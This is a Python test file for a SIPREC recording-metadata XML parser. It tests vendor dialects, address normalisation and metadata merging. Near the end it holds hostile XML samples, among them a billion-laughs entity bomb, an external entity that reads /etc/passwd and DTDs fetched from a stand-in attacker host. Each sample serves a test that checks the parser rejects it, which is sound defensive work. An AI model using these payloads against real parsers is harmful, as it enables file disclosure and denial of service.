"""Recording metadata (RFC 7865): dialects, merging, and hostile XML."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from callvault.errors import RemoteProtocolError
from callvault.siprec.metadata import (
    MetaParticipant,
    MetaStream,
    RecordingMetadata,
    normalise_aor,
    parse_metadata,
)
from callvault.siprec.offer import parse_offer

Body = tuple[str, bytes]
RFC = "urn:ietf:params:xml:ns:recording:1"


def test_rfc7865_document_with_assoc_elements() -> None:
    xml = f"""<?xml version="1.0"?>
<recording xmlns="{RFC}">
  <datamode>complete</datamode>
  <session session_id="s1"/>
  <participant participant_id="p1"><nameID aor="sip:alice@example.com">
    <name xml:lang="en">Alice</name></nameID></participant>
  <participant participant_id="p2"><nameID aor="bob@example.com"/></participant>
  <stream stream_id="st1" session_id="s1"><label>96</label></stream>
  <stream stream_id="st2" session_id="s1"><label>97</label></stream>
  <participantstreamassoc participant_id="p1"><send>st1</send><recv>st2</recv>
  </participantstreamassoc>
  <participantstreamassoc participant_id="p2"><send>st2</send></participantstreamassoc>
</recording>""".encode()
    assert parse_metadata(xml) == RecordingMetadata(
        session_id="s1",
        participants=(
            MetaParticipant("p1", ("sip:alice@example.com",), "Alice", ("st1",), ("st2",), True),
            MetaParticipant("p2", ("sip:bob@example.com",), None, ("st2",), (), True),
        ),
        streams=(MetaStream("st1", "96"), MetaStream("st2", "97")),
        complete=True,
    )


def test_draft_namespace_with_prefix_and_participant_level_send() -> None:
    xml = b"""<x:recording xmlns:x="urn:ietf:params:xml:ns:recording">
  <x:dataMode>partial</x:dataMode>
  <x:session id="s9"/>
  <x:participant id="p1" session="s9"><x:nameID aor="1000@pbx"/><x:send>a</x:send>
    <x:extensiondata xmlns:apkt="http://acmepacket.com/siprec/extensiondata">
      <apkt:callingParty>true</apkt:callingParty><x:send>not-me</x:send>
    </x:extensiondata>
  </x:participant>
  <x:stream id="a" session="s9"><x:label>5</x:label></x:stream>
</x:recording>"""
    metadata = parse_metadata(xml)
    assert metadata.session_id == "s9"
    assert not metadata.complete
    (participant,) = metadata.participants
    assert participant.aors == ("sip:1000@pbx",)
    assert participant.sends == ("a",)
    assert metadata.streams == (MetaStream("a", "5"),)


def test_no_namespace_and_nested_participants_are_accepted() -> None:
    xml = b"""<recording><session id="s"><participant id="p" name="Carol">
      <aor>tel:+15555550123</aor></participant></session></recording>"""
    (participant,) = parse_metadata(xml).participants
    assert (participant.aors, participant.name) == (("tel:+15555550123",), "Carol")


def test_broadworks_recording_metadata(fixture_body: Callable[..., Body]) -> None:
    offer = parse_offer(*fixture_body("broadworks_mixed_body.txt"))
    assert offer.metadata is not None
    metadata = offer.metadata
    assert metadata.session_id == "urn:uuid:0d9a7c88-2a6f-4a4e-a4d2-6f0b1f6f2b11"
    assert [(p.id, p.aors, p.name, p.sends) for p in metadata.participants] == [
        ("1142208:1", ("sip:+15555550100@198.51.100.10;user=phone",), "DemoCorp Demo", ("1",)),
        ("1147374:0", ("sip:+15555550199@198.51.100.10",), None, ("1",)),
    ]
    assert metadata.streams == (MetaStream("1", "1"),)


def test_foreign_elements_with_recording_names_are_ignored() -> None:
    xml = f"""<recording xmlns="{RFC}" xmlns:o="urn:other">
      <o:participant participant_id="evil"><o:aor>sip:x@y</o:aor></o:participant>
      <participant participant_id="p"><nameID aor="sip:a@b"/></participant>
      <extensiondata><participant participant_id="hidden"/></extensiondata>
    </recording>""".encode()
    assert [p.id for p in parse_metadata(xml).participants] == ["p"]


def test_placeholder_participant_without_aor_is_kept() -> None:
    xml = f"""<recording xmlns="{RFC}"><participant participant_id="ph"><nameID aor=""/>
      </participant><participantstreamassoc participant_id="ph"><send>s</send>
      </participantstreamassoc></recording>""".encode()
    (participant,) = parse_metadata(xml).participants
    assert (participant.aors, participant.sends) == ((), ("s",))


@pytest.mark.parametrize(
    ("raw", "aor"),
    [
        ("sip:a@b", "sip:a@b"),
        (" <sips:a@b> ", "sips:a@b"),
        ("a@b", "sip:a@b"),
        ("a@b:5060", "sip:a@b:5060"),
        ("+4930123@b", "sip:+4930123@b"),
        ("tel:+4930123", "tel:+4930123"),
        ("  ", None),
    ],
)
def test_normalise_aor(raw: str, aor: str | None) -> None:
    assert normalise_aor(raw) == aor


def test_avaya_metadata_only_update_is_merged(
    reference: Callable[..., Body], fixture_body: Callable[..., Body]
) -> None:
    initial = parse_offer(*reference("05")).metadata
    update_offer = parse_offer(*fixture_body("avaya_sbce_update_body.txt"))
    assert update_offer.sdp is None and update_offer.metadata is not None
    assert initial is not None and not update_offer.metadata.complete

    merged = initial.merged(update_offer.metadata)
    assert merged.session_id == "00FA0800705D4C5DCAAC41"
    assert merged.complete
    assert [(p.id, p.aors, p.name, p.sends, p.receives) for p in merged.participants] == [
        ("9a2de728ba0bc348db1e", ("sip:9878942259@212.188.68.145",), None,
         ("e6988909e02ca808ec0a",), ()),
        ("abcdef12345678901234", ("sip:4711@pbx.example.com",), "Agent 4711",
         ("261ddd3615629f108092",), ("e6988909e02ca808ec0a",)),
    ]  # fmt: skip
    assert merged.streams == initial.streams


def test_partial_update_keeps_what_it_does_not_restate() -> None:
    base = RecordingMetadata(
        "s",
        (MetaParticipant("p", ("sip:a@b",), "A", ("x",), (), True),),
        (MetaStream("x", "1"),),
        True,
    )
    update = RecordingMetadata(
        None,
        (MetaParticipant("p", (), None, (), ()), MetaParticipant("q", ("sip:q@b",), None, (), ())),
        (MetaStream("x", None), MetaStream("y", "2")),
        False,
    )
    merged = base.merged(update)
    assert merged.session_id == "s"
    assert merged.participants == (base.participants[0], update.participants[1])
    assert merged.streams == (MetaStream("x", "1"), MetaStream("y", "2"))
    complete = RecordingMetadata("t", (), (), True)
    assert base.merged(complete) is complete


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<recording xmlns="urn:ietf:params:xml:ns:recording:1"><session session_id="&lol9;"/></recording>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<recording xmlns="urn:ietf:params:xml:ns:recording:1"><session session_id="&xxe;"/></recording>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE recording SYSTEM "http://203.0.113.9/evil.dtd">
<recording xmlns="urn:ietf:params:xml:ns:recording:1"/>"""

INTERNAL_DTD = b"""<!DOCTYPE recording [<!ELEMENT recording ANY>]>
<recording xmlns="urn:ietf:params:xml:ns:recording:1"/>"""

PARAMETER_ENTITY = b"""<!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.9/x"> %p;]>
<recording xmlns="urn:ietf:params:xml:ns:recording:1"/>"""


@pytest.mark.parametrize(
    "xml",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, INTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "internal-dtd", "parameter-entity"],
)
def test_xml_attacks_are_refused_fast(xml: bytes) -> None:
    started = time.monotonic()
    with pytest.raises(RemoteProtocolError) as info:
        parse_metadata(xml)
    assert info.value.status == 400
    assert time.monotonic() - started < 1.0


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        (b"", "not well-formed"),
        (b"<recording", "not well-formed"),
        (b"\xff\xfe<", "not well-formed"),
        (b'<?xml version="1.0" encoding="nonsense"?><recording/>', "not well-formed"),
        (b"<recording_data/>", "is not <recording>"),
        (b'<recording xmlns="urn:other"/>', "is not <recording>"),
        (b"<recording>" + b"<a>" * 40 + b"</a>" * 40 + b"</recording>", "deeper than 32"),
        (b"<recording>" + b" " * 70_000 + b"</recording>", "exceeds"),
    ],
    ids=["empty", "truncated", "bad-bytes", "bad-encoding", "root", "namespace", "deep", "big"],
)
def test_bad_documents_are_400(xml: bytes, message: str) -> None:
    with pytest.raises(RemoteProtocolError, match=message) as info:
        parse_metadata(xml)
    assert info.value.status == 400
